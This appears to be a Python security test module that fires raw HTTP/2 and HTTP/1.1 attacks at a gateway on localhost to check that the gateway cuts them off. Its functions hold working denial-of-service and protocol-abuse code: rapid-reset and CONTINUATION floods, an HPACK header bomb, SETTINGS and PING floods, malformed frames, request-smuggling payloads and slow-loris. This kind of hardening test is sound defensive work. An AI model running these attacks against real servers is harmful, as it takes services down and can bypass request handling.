"""Abuse of HTTP/2 and of connections, sent as raw frames to the gateway on this machine.

`python -m tests.suites.wire_frames ATTACK PORT` does one and says how it went.
"""

from __future__ import annotations

import asyncio
import struct
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping, Sequence
from contextlib import suppress
from typing import Self

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ConnectionTerminated, ResponseReceived, StreamEnded, StreamReset, TrailersReceived
from h2.exceptions import ProtocolError
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATIENCE = 10.0
GONE = (ConnectionError, BrokenPipeError, TimeoutError, asyncio.IncompleteReadError)
PER_CONNECTION = 100  # what the gateway takes


def headers(
    token: str = "", path: str = "/tria.order.v1.OrderService/WatchOrders", **more: str
) -> list[tuple[str, str]]:
    """Of a gRPC call."""
    found = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    found += [("content-type", "application/grpc"), ("te", "trailers")]
    return [*found, ("authorization", f"Bearer {token}")] if token else found


class Raw:
    """A connection on which anything may be sent."""

    def __init__(self, port: int) -> None:
        self._port = port
        self.encoder = Encoder()

    async def __aenter__(self) -> Self:
        self.reader, self.writer = await asyncio.open_connection("127.0.0.1", self._port)
        self.writer.write(PREFACE + SettingsFrame(0).serialize())
        return self

    async def __aexit__(self, *_: object) -> None:
        self.writer.close()
        with suppress(*GONE):
            await self.writer.wait_closed()

    async def send(self, frames: Sequence[Frame | bytes]) -> int:
        """Sends as many as the other side takes; how many these were."""
        for number, each in enumerate(frames):
            try:
                self.writer.write(each if isinstance(each, bytes) else each.serialize())
                if number % 64 == 63:
                    await asyncio.wait_for(self.writer.drain(), PATIENCE)
            except GONE:
                return number
        with suppress(*GONE):
            await asyncio.wait_for(self.writer.drain(), PATIENCE)
        return len(frames)

    async def ended(self, within: float = PATIENCE) -> bool:
        """Whether the other side closes the connection in time."""

        async def drain() -> None:
            while await self.reader.read(65536):
                pass

        try:
            await asyncio.wait_for(drain(), within)
        except TimeoutError:
            return False
        except ConnectionError:
            return True
        return True

    def open(self, stream: int, more: Mapping[str, str] | None = None, *, end: bool = False) -> HeadersFrame:
        """The frame that opens a stream, with `more` headers."""
        flags = ["END_HEADERS", *(["END_STREAM"] if end else [])]
        return HeadersFrame(stream, self.encoder.encode([*headers(), *(more or {}).items()]), flags=flags)


async def rapid_reset(port: int) -> str:
    async with Raw(port) as raw:
        frames: list[Frame | bytes] = []
        for stream in range(1, 40_000, 2):
            frames += [raw.open(stream), RstStreamFrame(stream, error_code=8)]
        sent = await raw.send(frames)
        return f"{sent // 2} streams opened and reset, closed: {await raw.ended(3)}"


async def continuations(port: int) -> str:
    async with Raw(port) as raw:
        block = raw.encoder.encode(headers())
        frames: list[Frame | bytes] = [HeadersFrame(1, block)]
        frames += [ContinuationFrame(1, b"\x00\x01a" + bytes([100]) + b"b" * 100) for _ in range(50_000)]
        return f"{await raw.send(frames)} CONTINUATION frames, closed: {await raw.ended(3)}"


async def header_bomb(port: int) -> str:
    """One large field in the table, referred to again and again."""
    async with Raw(port) as raw:
        block = raw.encoder.encode([*headers(), ("x-bomb", "b" * 3900)]) + b"\xbe" * 8000
        await raw.send([HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"])])
        return f"16 KB that mean 31 MB, closed: {await raw.ended(3)}"


async def settings_flood(port: int) -> str:
    async with Raw(port) as raw:
        sent = await raw.send([SettingsFrame(0, settings={4: 65535 + number % 7}) for number in range(50_000)])
        return f"{sent} SETTINGS, closed: {await raw.ended(3)}"


async def ping_flood(port: int) -> str:
    async with Raw(port) as raw:
        return f"{await raw.send([PingFrame(0, b'12345678')] * 50_000)} PINGs, closed: {await raw.ended(3)}"


async def window_games(port: int) -> str:
    """Windows of nothing, of one byte, and beyond what a window may be."""
    async with Raw(port) as raw:
        frames: list[Frame | bytes] = [SettingsFrame(0, settings={4: 0}), raw.open(1, end=True)]
        frames += [WindowUpdateFrame(1, window_increment=1)] * 2_000
        frames += [WindowUpdateFrame(0, window_increment=2**31 - 1)] * 2
        return f"{await raw.send(frames)} frames, closed: {await raw.ended(5)}"


async def malformed(port: int) -> str:
    """Frames that no client sends, each on a connection of its own."""
    closed = 0
    odd: list[Callable[[Raw], list[Frame | bytes]]] = [
        lambda _: [struct.pack(">I", 2**24 - 1)[1:] + b"\x00\x00\x00\x00\x00\x01"],
        lambda _: [DataFrame(1, b"data on a stream that nobody opened")],
        lambda _: [b"\x00\x00\x05\x06\x00\x00\x00\x00\x00short"],
        lambda raw: [raw.open(2, end=True)],
        lambda raw: [raw.open(5, end=True), raw.open(3, end=True)],
        lambda _: [HeadersFrame(1, b"\xff\xff\xff\xff\xff\xff", flags=["END_HEADERS"])],
        lambda _: [b"\x00\x00\x04\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00"],
        lambda raw: [raw.open(1), PriorityFrame(1, depends_on=1)],
        lambda raw: [PushPromiseFrame(1, 2, raw.encoder.encode(headers()), flags=["END_HEADERS"])],
        lambda raw: [raw.open(1, {"Upper-Case": "x"})],
        lambda raw: [raw.open(1, {"connection": "keep-alive", "transfer-encoding": "chunked"})],
        lambda raw: [raw.open(1, {"x-line": "a\r\nb: c"})],
        lambda raw: [raw.open(1, {"content-length": "-1"}), DataFrame(1, b"x", flags=["END_STREAM"])],
        lambda _: [ContinuationFrame(1, b"", flags=["END_HEADERS"])],
        lambda _: [RstStreamFrame(99, error_code=8)],
        lambda _: [b"\x00" * 4096],
        lambda _: [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"],
    ]
    for make in odd:
        async with Raw(port) as raw:
            await raw.send(make(raw))
            closed += await raw.ended(2)
    return f"{len(odd)} kinds, {closed} connections closed by it"


async def large_metadata(port: int) -> str:
    """From 64 KB to 4 MB in one header."""
    outcomes = []
    for size in (65_536, 1 << 20, 4 << 20):
        async with Raw(port) as raw:
            block = raw.encoder.encode([*headers(), ("x-large", "x" * size)], huffman=False)  # its Huffman is quadratic
            pieces = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
            frames: list[Frame | bytes] = [HeadersFrame(1, pieces[0], flags=["END_STREAM"])]
            frames += [ContinuationFrame(1, piece) for piece in pieces[1:-1]]
            frames.append(ContinuationFrame(1, pieces[-1], flags=["END_HEADERS"]))
            await raw.send(frames)
            outcomes.append(f"{size // 1024} KiB closed: {await raw.ended(2)}")
    return ", ".join(outcomes)


async def smuggling(port: int) -> str:
    """Two requests in the body of one, by lengths that disagree; every answer must be a refusal."""
    second = b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n"
    heads = [
        b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"Content-Length: 0\r\nContent-Length: 44\r\n\r\n",
        b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    ]
    smuggled = 0
    for head in heads:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"POST /webhooks/xero HTTP/1.1\r\nHost: localhost\r\n" + head + second)
        answer = b""
        with suppress(*GONE):
            answer = await asyncio.wait_for(reader.read(65536), 5)
        writer.close()
        smuggled += b" 200 " in answer.split(b"\r\n")[0]
    if smuggled:
        raise AssertionError(f"{smuggled} of {len(heads)} were taken")
    return f"{len(heads)} spellings, none taken"


async def slow_loris(port: int, count: int = 400, seconds: int = 12) -> str:
    """A byte of a request each second on many connections."""
    opened = [await asyncio.open_connection("127.0.0.1", port)]  # the others may be too many
    for _ in range(count - 1):
        with suppress(OSError):
            opened.append(await asyncio.open_connection("127.0.0.1", port))
    for _, writer in opened:
        writer.write(b"POST /api/chatbot HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
    for _ in range(seconds):
        await asyncio.sleep(1)
        for _, writer in opened:
            with suppress(*GONE):
                writer.write(b"a")
    cut = sum(reader.at_eof() for reader, _ in opened)
    for _, writer in opened:
        writer.close()
    return f"{len(opened)} connections for {seconds} s, {cut} cut meanwhile"


Wire = Callable[[int], Awaitable[str]]
ATTACKS: dict[str, Wire] = {
    "rapid reset": rapid_reset,
    "CONTINUATION flood": continuations,
    "header bomb": header_bomb,
    "SETTINGS flood": settings_flood,
    "PING flood": ping_flood,
    "windows of nothing": window_games,
    "malformed frames": malformed,
    "oversized metadata": large_metadata,
    "request smuggling": smuggling,
    "slow-loris": slow_loris,
}


class Idle:
    """Streams that are opened and then only watched."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._open: list[tuple[H2Connection, asyncio.StreamReader, asyncio.StreamWriter]] = []
        self._readers: list[asyncio.Task[None]] = []
        self.sent = 0
        self.ended = 0
        self.said: Counter[str] = Counter()  # how the ended ones ended

    @property
    def standing(self) -> int:
        return self.sent - self.ended

    async def connection(self, tokens: Sequence[str], body: bytes) -> None:
        """One connection with a call for each token."""
        reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
        connection = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        connection.initiate_connection()
        connection.increment_flow_control_window(1 << 20)
        for token in tokens:
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, headers(token))
            connection.send_data(stream, struct.pack(">BI", 0, len(body)) + body, end_stream=True)
            self.sent += 1
        writer.write(connection.data_to_send())
        await writer.drain()
        self._open.append((connection, reader, writer))
        self._readers.append(asyncio.create_task(self._read(connection, reader, writer, len(tokens))))

    async def _read(
        self, connection: H2Connection, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, mine: int
    ) -> None:
        gone: set[int] = set()
        try:
            while data := await reader.read(65536):
                for event in connection.receive_data(data):
                    if isinstance(event, ResponseReceived | TrailersReceived):
                        told = dict(event.headers or ())
                        if told.get(b"grpc-status", b"0") != b"0":
                            self.said[(told[b"grpc-status"] + b" " + told.get(b"grpc-message", b"")).decode()] += 1
                    elif isinstance(event, StreamEnded | StreamReset) and event.stream_id not in gone:
                        gone.add(event.stream_id)
                        self.ended += 1
                    elif isinstance(event, ConnectionTerminated):
                        return
                writer.write(connection.data_to_send())
        except (ConnectionError, ProtocolError):
            pass
        finally:
            self.ended += mine - len(gone)

    async def close(self) -> None:
        for task in self._readers:
            task.cancel()
        await asyncio.gather(*self._readers, return_exceptions=True)
        for _, _, writer in self._open:
            writer.close()


async def main(name: str, port: int) -> None:
    """One attack; a gateway that cuts it has ended it, but one that is not there was not attacked."""
    try:
        said = await ATTACKS[name](port)
    except ConnectionRefusedError:
        raise
    except (OSError, TimeoutError) as error:
        said = f"cut: {type(error).__name__}"
    sys.stdout.write(said + "\n")


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
